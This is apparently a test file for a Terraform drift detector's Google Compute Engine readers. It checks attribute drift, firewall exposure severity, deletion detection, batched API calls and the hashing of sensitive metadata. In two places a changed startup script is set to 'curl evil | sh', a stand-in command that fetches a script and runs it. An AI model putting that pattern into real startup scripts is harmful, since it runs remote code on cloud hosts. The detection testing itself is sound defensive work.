// The Compute Engine readers (cloud/google/compute) against the fake Google API: each type read
// back from its state is no drift; a live change of each compared attribute is reported with its
// path and severity rule; a missing resource is deleted; several of a type in one project are
// read with one aggregatedList or list (paged); sensitive values stay hashed; the real corpus
// states holding these types replay clean.
import t from 'tap';
import { COMPUTE_READERS } from '../../../runner-agent/src/engine/cloud/google/compute/index.ts';
import { SENSITIVE_CHANGED } from '../../../runner-agent/src/engine/sensitive.ts';
import type { StateInstance } from '../../../runner-agent/src/engine/types.ts';
import { changed, compareAgainst, corpusStates, instance } from './harness.ts';

const P = 'proj-1';
const V1 = `https://www.googleapis.com/compute/v1/projects/${P}`;
const NET = `${V1}/global/networks/main`;
const SUBNET = `${V1}/regions/us-central1/subnetworks/app`;
const link = (kind: string, name: string) => ({ id: `projects/${P}/${kind}/${name}`, self_link: `${V1}/${kind}/${name}`, project: P, name });

const vm = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_instance', name, {
  ...link(`zones/us-central1-a/instances`, name), zone: 'us-central1-a', machine_type: 'e2-medium', description: '', can_ip_forward: false,
  deletion_protection: false, hostname: '', min_cpu_platform: '', enable_display: false, instance_id: '4993131743765937902',
  cpu_platform: 'Intel Haswell', current_status: 'RUNNING', label_fingerprint: '42WmSpB8rSM=', metadata_fingerprint: 'Av7l3BNGSpc=',
  labels: { team: 'web' }, terraform_labels: { team: 'web' }, effective_labels: { team: 'web', 'goog-terraform-provisioned': 'true' },
  metadata: { 'enable-oslogin': 'TRUE', 'ssh-keys': 'alice:ssh-ed25519 AAAAsecret' }, metadata_startup_script: 'echo hi',
  tags: ['web'], resource_policies: null,
  boot_disk: [{ auto_delete: true, device_name: 'persistent-disk-0', disk_encryption_key_raw: '', disk_encryption_key_sha256: '', kms_key_self_link: '', mode: 'READ_WRITE',
    source: `${V1}/zones/us-central1-a/disks/${name}`, initialize_params: [{ image: 'https://www.googleapis.com/compute/v1/projects/debian-cloud/global/images/debian-12', labels: {}, size: 10, type: 'pd-balanced' }] }],
  attached_disk: [{ source: `${V1}/zones/us-central1-a/disks/${name}-data`, device_name: 'data', mode: 'READ_WRITE', disk_encryption_key_raw: '', disk_encryption_key_sha256: '', kms_key_self_link: '' }],
  scratch_disk: [],
  network_interface: [{ name: 'nic0', network: NET, subnetwork: SUBNET, subnetwork_project: P, network_ip: '10.0.0.2', nic_type: '', stack_type: 'IPV4_ONLY', queue_count: 0,
    access_config: [], alias_ip_range: [], ipv6_access_config: [] }],
  scheduling: [{ automatic_restart: true, min_node_cpus: 0, node_affinities: [], on_host_maintenance: 'MIGRATE', preemptible: false, provisioning_model: 'STANDARD', instance_termination_action: '' }],
  service_account: [{ email: `app@${P}.iam.gserviceaccount.com`, scopes: ['https://www.googleapis.com/auth/cloud-platform'] }],
  shielded_instance_config: [{ enable_integrity_monitoring: true, enable_secure_boot: false, enable_vtpm: true }],
  ...attrs,
});
const fw = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_firewall', name, {
  ...link('global/firewalls', name), network: NET, priority: 1000, direction: 'INGRESS', disabled: false, description: '',
  allow: [{ protocol: 'tcp', ports: ['80', '443'] }, { protocol: 'icmp', ports: [] }], deny: [],
  source_ranges: ['10.0.0.0/8'], destination_ranges: [], source_tags: [], target_tags: ['web'], source_service_accounts: null, target_service_accounts: null,
  log_config: [], creation_timestamp: '2021-09-14T02:45:33.796-07:00', ...attrs,
});
const subnet = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_subnetwork', name, {
  ...link('regions/us-central1/subnetworks', name), region: 'us-central1', network: NET, ip_cidr_range: '10.2.0.0/16', description: '',
  private_ip_google_access: false, private_ipv6_google_access: 'DISABLE_GOOGLE_ACCESS', purpose: 'PRIVATE', stack_type: 'IPV4_ONLY',
  gateway_address: '10.2.0.1', fingerprint: null, secondary_ip_range: [{ range_name: 'pods', ip_cidr_range: '192.168.0.0/20' }, { range_name: 'svc', ip_cidr_range: '192.168.16.0/24' }],
  log_config: [{ aggregation_interval: 'INTERVAL_5_SEC', flow_sampling: 0.5, metadata: 'INCLUDE_ALL_METADATA', metadata_fields: [], filter_expr: 'true' }], ...attrs,
});
const disk = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_disk', name, {
  ...link('zones/us-central1-a/disks', name), zone: 'us-central1-a', type: 'pd-standard', size: 10, description: '',
  image: 'https://www.googleapis.com/compute/v1/projects/debian-cloud/global/images/debian-9-stretch-v20200805', snapshot: '',
  physical_block_size_bytes: 4096, provisioned_iops: 0, labels: null, users: [], source_image_id: '6709658075886210235', label_fingerprint: '42WmSpB8rSM=', ...attrs,
});
const router = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_router', name, {
  ...link('regions/us-central1/routers', name), region: 'us-central1', network: NET, description: '',
  bgp: [{ advertise_mode: 'CUSTOM', advertised_groups: ['ALL_SUBNETS'], advertised_ip_ranges: [{ description: '', range: '1.2.3.4' }, { description: '', range: '6.7.0.0/16' }], asn: 64514, keepalive_interval: 20 }],
  ...attrs,
});
const nat = (name: string, routerName: string, attrs: Record<string, unknown> = {}) => instance('google_compute_router_nat', name, {
  id: `${P}/us-central1/${routerName}/${name}`, project: P, region: 'us-central1', router: routerName, name,
  nat_ip_allocate_option: 'MANUAL_ONLY', nat_ips: [`${V1}/regions/us-central1/addresses/nat-ip`], drain_nat_ips: [],
  source_subnetwork_ip_ranges_to_nat: 'LIST_OF_SUBNETWORKS', subnetwork: [{ name: SUBNET, source_ip_ranges_to_nat: ['ALL_IP_RANGES'], secondary_ip_range_names: [] }],
  min_ports_per_vm: 64, max_ports_per_vm: 0, enable_dynamic_port_allocation: false, enable_endpoint_independent_mapping: true,
  udp_idle_timeout_sec: 30, icmp_idle_timeout_sec: 30, tcp_established_idle_timeout_sec: 1200, tcp_transitory_idle_timeout_sec: 30, tcp_time_wait_timeout_sec: 120,
  log_config: [{ enable: true, filter: 'ERRORS_ONLY' }], ...attrs,
});
const address = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_address', name, {
  ...link('regions/us-central1/addresses', name), region: 'us-central1', address: '34.136.69.225', address_type: 'EXTERNAL', description: '',
  network: '', network_tier: 'PREMIUM', prefix_length: 0, purpose: '', subnetwork: '', users: [], ...attrs,
});
const gaddress = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_global_address', name, {
  ...link('global/addresses', name), address: '107.178.250.143', address_type: 'EXTERNAL', description: '', ip_version: '', network: '', prefix_length: 0, purpose: '', ...attrs,
});
const template = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_instance_template', name, {
  ...link('global/instanceTemplates', name), description: '', instance_description: '', machine_type: 'e2-small', can_ip_forward: false,
  labels: { env: 'prod' }, tags: ['web'], metadata: { foo: 'bar' }, metadata_startup_script: '', name_prefix: null,
  network_interface: [{ network: NET, subnetwork: SUBNET, subnetwork_project: P, network_ip: '', nic_type: '', stack_type: 'IPV4_ONLY', queue_count: 0,
    access_config: [{ nat_ip: '', network_tier: 'PREMIUM', public_ptr_domain_name: '' }], alias_ip_range: [] }],
  disk: [{ auto_delete: true, boot: true, device_name: 'persistent-disk-0', disk_size_gb: 20, disk_type: 'pd-balanced', interface: 'SCSI', mode: 'READ_WRITE', type: 'PERSISTENT', source_image: 'debian-cloud/debian-12' }],
  scheduling: [{ automatic_restart: true, on_host_maintenance: 'MIGRATE', preemptible: false, provisioning_model: 'STANDARD', min_node_cpus: 0, instance_termination_action: '' }],
  service_account: [{ email: 'default', scopes: ['https://www.googleapis.com/auth/devstorage.read_only'] }], ...attrs,
});
const network = (name: string, attrs: Record<string, unknown> = {}) => instance('google_compute_network', name, {
  ...link('global/networks', name), description: '', auto_create_subnetworks: false, routing_mode: 'REGIONAL', mtu: 1460,
  enable_ula_internal_ipv6: false, network_firewall_policy_enforcement_order: 'AFTER_CLASSIC_FIREWALL', gateway_ipv4: '', ...attrs,
});

const ALL = [vm('a'), fw('f'), subnet('s'), disk('d'), router('r'), nat('n', 'r'), address('ip'), gaddress('gip'), template('tpl'), network('main')];

t.test('every type read back from its state is no drift', async (t) => {
  const { drifts, compared, stats } = await compareAgainst('google', ALL);
  t.equal(compared, ALL.length);
  t.same(stats.unsupported, {});
  t.same(drifts, []);
});

/** The drift of `i` when the cloud answers `attrs` changed. */
async function driftOf(i: StateInstance, attrs: Record<string, unknown>, others: StateInstance[] = []) {
  const { drifts } = await compareAgainst('google', [i, ...others], [changed(i, attrs), ...others]);
  return drifts.find((d) => d.resourceAddress === i.address);
}

t.test('a live change of each compared attribute is reported with its path and rule', async (t) => {
  const v = vm('a');
  const nic = (v.attributes.network_interface as Record<string, unknown>[])[0];
  const cases: [StateInstance, Record<string, unknown>, string, string][] = [
    [v, { machine_type: 'e2-standard-4' }, 'machine_type', 'gcp-instance-machine-type-changed'],
    [v, { effective_labels: { team: 'ops', 'goog-terraform-provisioned': 'true' } }, 'labels.team', 'labels-only'],
    [v, { description: 'x' }, 'description', 'changed'],
    [v, { deletion_protection: true }, 'deletion_protection', 'changed'],
    [v, { can_ip_forward: true }, 'can_ip_forward', 'gcp-instance-access-changed'],
    [v, { tags: ['web', 'ssh'] }, 'tags', 'gcp-instance-access-changed'],
    [v, { metadata: { 'enable-oslogin': 'FALSE', 'ssh-keys': 'alice:ssh-ed25519 AAAAsecret' } }, 'metadata.enable-oslogin', 'changed'],
    [v, { metadata_startup_script: 'curl evil | sh' }, 'metadata_startup_script', 'changed'],
    [v, { network_interface: [{ ...nic, access_config: [{ nat_ip: '34.1.2.3', network_tier: 'PREMIUM', public_ptr_domain_name: '' }] }] }, 'network_interface.0.access_config', 'gcp-instance-external-ip-added'],
    [v, { network_interface: [{ ...nic, network_ip: '10.0.0.9' }] }, 'network_interface.0.network_ip', 'gcp-instance-access-changed'],
    [v, { service_account: [{ email: `admin@${P}.iam.gserviceaccount.com`, scopes: ['https://www.googleapis.com/auth/cloud-platform'] }] }, 'service_account.0.email', 'gcp-instance-access-changed'],
    [v, { scheduling: [{ ...(v.attributes.scheduling as object[])[0], preemptible: true }] }, 'scheduling.0.preemptible', 'changed'],
    [v, { attached_disk: [] }, 'attached_disk', 'changed'],
    [v, { boot_disk: [{ ...(v.attributes.boot_disk as object[])[0], auto_delete: false }] }, 'boot_disk.0.auto_delete', 'changed'],
    [v, { shielded_instance_config: [{ enable_integrity_monitoring: true, enable_secure_boot: true, enable_vtpm: true }] }, 'shielded_instance_config.0.enable_secure_boot', 'changed'],
    [fw('f'), { priority: 900 }, 'priority', 'gcp-firewall-changed'],
    [fw('f'), { allow: [{ protocol: 'tcp', ports: ['80', '443', '8080'] }, { protocol: 'icmp', ports: [] }] }, 'allow', 'gcp-firewall-changed'],
    [fw('f'), { target_tags: ['web', 'db'] }, 'target_tags', 'gcp-firewall-changed'],
    [fw('f'), { disabled: true }, 'disabled', 'gcp-firewall-changed'],
    [fw('f'), { log_config: [{ metadata: 'INCLUDE_ALL_METADATA' }] }, 'log_config', 'gcp-firewall-changed'],
    [subnet('s'), { ip_cidr_range: '10.3.0.0/16' }, 'ip_cidr_range', 'changed'],
    [subnet('s'), { private_ip_google_access: true }, 'private_ip_google_access', 'changed'],
    [subnet('s'), { secondary_ip_range: [{ range_name: 'pods', ip_cidr_range: '192.168.0.0/20' }] }, 'secondary_ip_range', 'changed'],
    [subnet('s'), { log_config: [] }, 'log_config', 'changed'],
    [disk('d'), { size: 20 }, 'size', 'changed'],
    [disk('d'), { type: 'pd-ssd' }, 'type', 'changed'],
    [disk('d'), { labels: { owner: 'x' } }, 'labels', 'labels-only'], // the state holds labels: null: the whole map differs
    [router('r'), { bgp: [{ ...(router('r').attributes.bgp as object[])[0], asn: 64515 }] }, 'bgp.0.asn', 'changed'],
    [router('r'), { bgp: [{ ...(router('r').attributes.bgp as object[])[0], advertised_ip_ranges: [{ description: '', range: '1.2.3.4' }] }] }, 'bgp.0.advertised_ip_ranges', 'changed'],
    [nat('n', 'r'), { min_ports_per_vm: 128 }, 'min_ports_per_vm', 'changed'],
    [nat('n', 'r'), { nat_ips: [`${V1}/regions/us-central1/addresses/other`] }, 'nat_ips', 'changed'],
    [nat('n', 'r'), { log_config: [{ enable: false, filter: 'ERRORS_ONLY' }] }, 'log_config.0.enable', 'changed'],
    [nat('n', 'r'), { udp_idle_timeout_sec: 60 }, 'udp_idle_timeout_sec', 'changed'],
    [address('ip'), { address: '34.1.1.1' }, 'address', 'changed'],
    [address('ip'), { network_tier: 'STANDARD' }, 'network_tier', 'changed'],
    [gaddress('gip'), { address: '107.1.1.1' }, 'address', 'changed'],
    [template('tpl'), { machine_type: 'e2-medium' }, 'machine_type', 'changed'],
    [template('tpl'), { disk: [{ ...(template('tpl').attributes.disk as object[])[0], disk_size_gb: 50 }] }, 'disk.0.disk_size_gb', 'changed'],
    [template('tpl'), { service_account: [] }, 'service_account', 'changed'],
    [network('main'), { routing_mode: 'GLOBAL' }, 'routing_mode', 'changed'],
    [network('main'), { mtu: 1500 }, 'mtu', 'changed'],
  ];
  for (const [i, attrs, attribute, ruleId] of cases) {
    const others = i.type === 'google_compute_router_nat' ? [router('r')] : [];
    const d = await driftOf(i, attrs, others);
    t.equal(d?.changeType, 'changed', `${i.type} ${attribute}`);
    t.same(d?.diff.map((x) => x.attribute), [attribute], `${i.type} ${attribute} path`);
    t.equal(d?.ruleId, ruleId, `${i.type} ${attribute} rule`);
  }
});

t.test('a firewall opened to the internet on SSH or RDP is critical; other changes high', async (t) => {
  const critical = async (state: StateInstance, attrs: Record<string, unknown>, what: string) => {
    const d = await driftOf(state, attrs);
    t.match(d, { severity: 'critical', ruleId: 'gcp-firewall-admin-open-to-internet' }, what);
  };
  const web = fw('f', { allow: [{ protocol: 'tcp', ports: ['22'] }] });
  await critical(web, { source_ranges: ['10.0.0.0/8', '0.0.0.0/0'] }, 'source 0.0.0.0/0 added to a port-22 rule');
  await critical(fw('f', { source_ranges: ['0.0.0.0/0'] }), { allow: [{ protocol: 'tcp', ports: ['20-30'] }] }, 'a range covering 22');
  await critical(fw('f', { source_ranges: ['0.0.0.0/0'] }), { allow: [{ protocol: 'tcp', ports: ['3389'] }] }, 'RDP');
  await critical(fw('f', { source_ranges: ['0.0.0.0/0'] }), { allow: [{ protocol: 'all', ports: [] }] }, 'protocol all');
  await critical(fw('f', { source_ranges: ['0.0.0.0/0'] }), { allow: [{ protocol: 'tcp', ports: [] }] }, 'tcp without ports = every port');
  await critical(fw('f'), { source_ranges: ['0.0.0.0/0'], allow: [{ protocol: 'tcp', ports: ['22'] }] }, 'ranges and ports changed together');
  await critical(fw('f', { source_ranges: ['0.0.0.0/0'], allow: [{ protocol: 'tcp', ports: ['22'] }], disabled: true }), { disabled: false }, 'an open rule enabled');
  const high = async (state: StateInstance, attrs: Record<string, unknown>, what: string) => {
    const d = await driftOf(state, attrs);
    t.match(d, { severity: 'high', ruleId: 'gcp-firewall-changed' }, what);
  };
  await high(fw('f', { source_ranges: ['0.0.0.0/0'] }), { allow: [{ protocol: 'tcp', ports: ['8080'] }] }, 'world on 8080 only');
  await high(fw('f', { direction: 'EGRESS', destination_ranges: ['0.0.0.0/0'], source_ranges: [] }), { allow: [{ protocol: 'tcp', ports: ['22'] }] }, 'egress');
  await high(fw('f', { allow: [{ protocol: 'tcp', ports: ['22'] }] }), { source_ranges: ['10.0.0.0/8', '192.168.0.0/16'] }, 'private range added');
  await high(fw('f', { allow: [{ protocol: 'tcp', ports: ['22'] }], source_ranges: ['0.0.0.0/0'] }), { description: 'already open' }, 'already open before');
  await high(fw('f', { allow: [{ protocol: 'udp', ports: ['22'] }] }), { source_ranges: ['0.0.0.0/0'] }, 'udp 22');
});

t.test('an instance gaining a second interface with an external IP is high; removing one is not "gained"', async (t) => {
  const v = vm('a');
  const nic = (v.attributes.network_interface as Record<string, unknown>[])[0];
  const open = { ...nic, name: 'nic1', access_config: [{ nat_ip: '34.1.2.3', network_tier: 'PREMIUM', public_ptr_domain_name: '' }] };
  t.match(await driftOf(v, { network_interface: [nic, open] }), { severity: 'high', ruleId: 'gcp-instance-external-ip-added' });
  const exposed = vm('b', { network_interface: [open] });
  t.match(await driftOf(exposed, { network_interface: [{ ...open, access_config: [] }] }), { ruleId: 'gcp-instance-access-changed' });
  // An ephemeral external IP changes with a stop and start: ignored (and counted), not reported.
  const moved = await compareAgainst('google', [exposed], [changed(exposed, { network_interface: [{ ...open, access_config: [{ ...open.access_config[0], nat_ip: '34.9.9.9' }] }] })]);
  t.same(moved.drifts, []);
  t.equal(moved.stats.ignoredDiffs, 1);
});

t.test('a resource gone is deleted; a NAT gone from its router too', async (t) => {
  const state = [vm('a'), fw('f'), router('r'), nat('n', 'r'), nat('m', 'r')];
  const { drifts } = await compareAgainst('google', state, [router('r'), nat('m', 'r')]);
  t.same(drifts.map((d) => [d.resourceAddress, d.changeType, d.severity]).sort(), [
    ['google_compute_firewall.f', 'deleted', 'high'], ['google_compute_instance.a', 'deleted', 'high'], ['google_compute_router_nat.n', 'deleted', 'high'],
  ]);
});

t.test('several of a type in one project: one aggregatedList or list each, paged; one GET below three', async (t) => {
  const vms = ['a', 'b', 'c'].map((n) => vm(n));
  const fws = ['f1', 'f2', 'f3', 'f4', 'f5'].map((n) => fw(n));
  const disks = ['d1', 'd2', 'd3'].map((n) => disk(n));
  const routers = ['r1', 'r2', 'r3'].map((n) => router(n));
  const nats = [nat('n1', 'r1'), nat('n2', 'r1'), nat('n3', 'r2')];
  const state = [...vms, ...fws, ...disks, ...routers, ...nats, subnet('s1'), subnet('s2')];
  const { drifts, fake, api } = await compareAgainst('google', state, state, { pageSize: 2 });
  t.same(drifts, []);
  const calls = (re: RegExp) => fake.log.filter((l) => re.test(l)).length;
  t.equal(calls(/aggregated\/instances/), 1, 'instances: one aggregatedList');
  t.equal(calls(/aggregated\/disks/), 1, 'disks: one aggregatedList');
  t.equal(calls(/\/global\/firewalls(\?|$)/), 3, 'firewalls: one list, three pages of two');
  t.equal(calls(/\/firewalls\/f/), 0, 'no firewall read alone');
  t.equal(calls(/aggregated\/routers/), 1, 'routers and their NATs: one aggregatedList for both types');
  t.equal(calls(/\/routers\/r/), 0);
  t.equal(calls(/\/subnetworks\/s/), 2, 'two subnetworks: one GET each');
  t.equal(api.totalCalls, fake.log.length);

  const two = await compareAgainst('google', [router('r'), nat('n1', 'r'), nat('n2', 'r')]);
  t.same(two.drifts, []);
  t.equal(two.fake.log.filter((l) => /\/routers\/r$/.test(l)).length, 1, 'one router read once for itself and its two NATs');
});

t.test('a state without zone or region (pruned, older provider) is found by name in the project, never guessed deleted', async (t) => {
  const bare = (i: StateInstance, drop: string[]) => ({ ...i, attributes: Object.fromEntries(Object.entries(i.attributes).filter(([k]) => !drop.includes(k))) });
  // Older providers' ids are the bare name; the project comes from the state here.
  const v = bare(vm('a'), ['zone', 'self_link', 'name']);
  v.attributes.id = 'a';
  const d = bare(disk('d'), ['zone', 'self_link', 'id']);
  const r = bare(router('r'), ['region', 'self_link', 'id']);
  const n = nat('n', 'r', { region: null, project: null, id: `${P}/us-central1/r/n` });
  const { drifts, fake } = await compareAgainst('google', [v, d, r, n], [vm('a'), disk('d'), router('r'), n]);
  t.same(drifts, []);
  t.ok(fake.log.some((l) => l.includes('/aggregated/instances')), 'the instance looked up in the aggregated list');
  const gone = await compareAgainst('google', [v], [vm('other')]);
  t.same(gone.drifts.map((x) => x.changeType), ['deleted'], 'no instance of that name in any zone: deleted');
});

t.test('a sensitive metadata value is compared by hash and never shown', async (t) => {
  const secret = 'alice:ssh-ed25519 AAAAsecret';
  const v = vm('a');
  const sv: StateInstance = { ...v, sensitivePaths: [['metadata', 'ssh-keys'], ['metadata_startup_script']] };
  t.same((await compareAgainst('google', [sv])).drifts, [], 'equal secrets compare equal');
  const live = changed(sv, { metadata: { 'enable-oslogin': 'TRUE', 'ssh-keys': 'mallory:ssh-ed25519 BBBBother' }, metadata_startup_script: 'curl evil | sh' });
  const { drifts } = await compareAgainst('google', [sv], [live]);
  t.same(drifts[0]?.diff, [
    { attribute: 'metadata.ssh-keys', before: SENSITIVE_CHANGED, after: SENSITIVE_CHANGED },
    { attribute: 'metadata_startup_script', before: SENSITIVE_CHANGED, after: SENSITIVE_CHANGED },
  ]);
  const text = JSON.stringify(drifts);
  for (const s of [secret, 'BBBBother', 'curl evil', 'echo hi']) t.notOk(text.includes(s), `${s} not in the drift`);
});

t.test('the real corpus states holding Compute types replay with no drift', async (t) => {
  let states = 0;
  for (const { file: f, doc } of corpusStates('google')) {
    const instances = doc.instances.filter((i) => COMPUTE_READERS[i.type]);
    if (instances.length === 0) continue;
    states++;
    const { drifts, compared } = await compareAgainst('google', instances);
    t.equal(compared, instances.length, `${f}: every instance compared`);
    t.same(drifts, [], `${f}: no false drift`);
  }
  t.ok(states >= 7, `${states} corpus states hold Compute types`);
});
